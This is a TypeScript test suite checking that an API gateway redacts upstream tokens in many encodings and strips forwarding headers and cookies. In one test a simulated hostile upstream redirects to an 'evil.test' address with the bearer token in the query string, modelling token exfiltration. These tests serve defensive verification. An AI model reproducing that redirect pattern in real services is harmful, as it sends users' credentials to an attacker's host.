import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { answer } from "./cloud.ts";
import { aStage } from "./stage.ts";

/** Every form in which an API may print the token that it was sent. */
const FORMS: Readonly<Record<string, (token: string) => string>> = {
  plain: (token) => token,
  "in JSON": (token) => JSON.stringify({ token }),
  "in JSON as PHP writes it": (token) => JSON.stringify({ token }).replaceAll("/", "\\/"),
  "in an address": (token) => encodeURIComponent(token),
  "in an address in small letters": (token) =>
    encodeURIComponent(token).replaceAll(/%../g, (code) => code.toLowerCase()),
  "in a form": (token) => new URLSearchParams({ token }).toString(),
  "in Base64": (token) => Buffer.from(token).toString("base64"),
  "in Base64 with its scheme": (token) => Buffer.from(`Bearer ${token}`).toString("base64"),
  "in base64url": (token) => Buffer.from(token).toString("base64url"),
  "in hex": (token) => Buffer.from(token).toString("hex"),
  "in UTF-16": (token) => Buffer.from(token, "utf16le").toString("latin1"),
  "twice, between bytes that are no text": (token) => `\u0000ÿ${token}${token}`,
};

test.for(Object.entries(FORMS))("a token that the API prints %s does not come back", async ([, form]) => {
  const { cloud, ask } = await aStage();
  await ask("/proxy/Grid/a");
  const printed = form(cloud.token);
  cloud.serve = (_request, response) => void response.writeHead(200, { "x-echo": encodeURI(printed) }).end(printed);
  const got = await ask("/proxy/Grid/echo");
  expect(got.status).toBe(200);
  expect(got.text).toContain("[secret]");
  for (const each of Object.values(FORMS)) {
    expect(got.text).not.toContain(each(cloud.token));
    expect(JSON.stringify(got.headers)).not.toContain(each(cloud.token));
  }
});

test("a token that was replaced meanwhile, and one in a packed answer, do not come back", async () => {
  const { cloud, ask } = await aStage();
  await ask("/proxy/Grid/a");
  cloud.expire();
  cloud.serve = (_request, response) =>
    void response.writeHead(200, { "content-encoding": "gzip" }).end(gzipSync(cloud.tokens.join(" and ")));
  const got = await ask("/proxy/Grid/a?again");
  expect(cloud.tokens).toHaveLength(2);
  expect(got.text).toBe("[secret] and [secret]");
  expect(got.headers["content-encoding"]).toBeUndefined();
});

test("what a caller says of itself does not reach the cloud, nor the cloud's cookies the caller", async () => {
  const { cloud, ask } = await aStage();
  cloud.serve = (_request, response) =>
    answer(
      response,
      200,
      {},
      {
        "set-cookie": "session=canary-cookie",
        "strict-transport-security": "max-age=1",
        "access-control-allow-origin": "*",
        refresh: "0; url=https://evil.test",
        connection: "x-internal",
        "x-internal": "canary-internal",
        "x-kept": "1",
      },
    );
  const told = {
    cookie: "gateway=canary",
    "x-forwarded-for": "canary",
    forwarded: "for=canary",
    "x-real-ip": "canary",
    via: "canary",
    "x-remote-user-id": "canary",
    "x-ingress-path": "canary",
    "proxy-authorization": "canary",
    origin: "https://canary.test",
    referer: "https://canary.test",
    connection: "x-private, close",
    "x-private": "canary",
    te: "trailers",
    "user-agent": "dashboard",
  };
  const got = await ask("/proxy/Grid/a", { headers: told });
  expect(cloud.asked[0]?.headers).toEqual({
    host: new URL(cloud.url).host,
    connection: "keep-alive",
    "user-agent": "dashboard",
    "accept-encoding": "identity",
    authorization: `Bearer ${cloud.token}`,
  });
  expect(Object.keys(got.headers).sort()).toEqual(
    ["cache-status", "connection", "content-length", "content-type", "date", "x-content-type-options", "x-kept"].sort(),
  );
});

test("a header that carries the token is the gateway's alone", async () => {
  const { cloud, ask } = await aStage({ account: { token_in: "header:X-Api-Key" } });
  cloud.tokenOf = ({ headers }) => String(headers["x-api-key"]);
  expect((await ask("/proxy/Grid/a", { headers: { "X-API-Key": "mine" } })).status).toBe(200);
  expect(cloud.asked[0]?.headers["x-api-key"]).toBe(cloud.token);
});

test("no token stands in answers, refusals, kept answers, the log or the database's list of clients", async () => {
  const { cloud, house, broker, ask, token, lines } = await aStage();
  const said: string[] = [];
  const hear = async (path: string, options = {}): Promise<void> => {
    const got = await ask(path, options);
    said.push(`${JSON.stringify(got.headers)}${got.text}`);
  };
  const echo = `{"seen":"${"a".repeat(10)}"}`;
  cloud.serve = (request, response) => answer(response, 200, { echo, headers: request.headers, url: request.url });
  await hear("/proxy/Grid/a");
  cloud.expire();
  await hear("/proxy/Grid/a?after");
  cloud.serve = (request, response) =>
    void response.writeHead(302, { location: `http://evil.test/?${request.headers.authorization ?? ""}` }).end();
  await hear("/proxy/Grid/redirected");
  cloud.serve = (request, response) => answer(response, 500, { headers: request.headers });
  await hear("/proxy/Grid/a");
  await hear("/proxy/Grid/failed");
  await hear(`/proxy/Grid/${token}`);
  await hear("/proxy/Nobody/a");
  await hear("/proxy/Grid/../a");
  await cloud.stop();
  await hear("/proxy/Grid/a");
  await hear("/proxy/Grid/never");
  said.push(JSON.stringify(broker.state()), ...lines, ...house.lines, JSON.stringify(house.vault.clients.all()));
  expect(said.length).toBeGreaterThan(15);
  const secrets = [...cloud.tokens, token, "canary-password"];
  for (const secret of secrets) for (const line of said) expect(line).not.toContain(secret);
});
